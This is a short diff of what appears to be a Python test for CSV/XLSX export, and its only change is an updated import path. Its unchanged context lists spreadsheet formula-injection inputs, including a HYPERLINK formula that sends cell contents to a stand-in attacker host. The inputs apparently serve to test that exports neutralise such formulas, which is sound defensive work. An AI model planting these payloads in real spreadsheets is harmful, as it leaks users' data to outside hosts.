@@ -6,7 +6,7 @@ import io
 
 from openpyxl import load_workbook
 
-from engine.exports.formats import Column, Table, to_csv, to_xlsx
+from engine.read.exports.formats import Column, Table, to_csv, to_xlsx
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+2", "-3", "@SUM(A1)", "plain 文本"]
 TABLE = Table(title="Nonconformities", columns=[Column("title", "Title")], rows=[{"title": t} for t in HOSTILE])
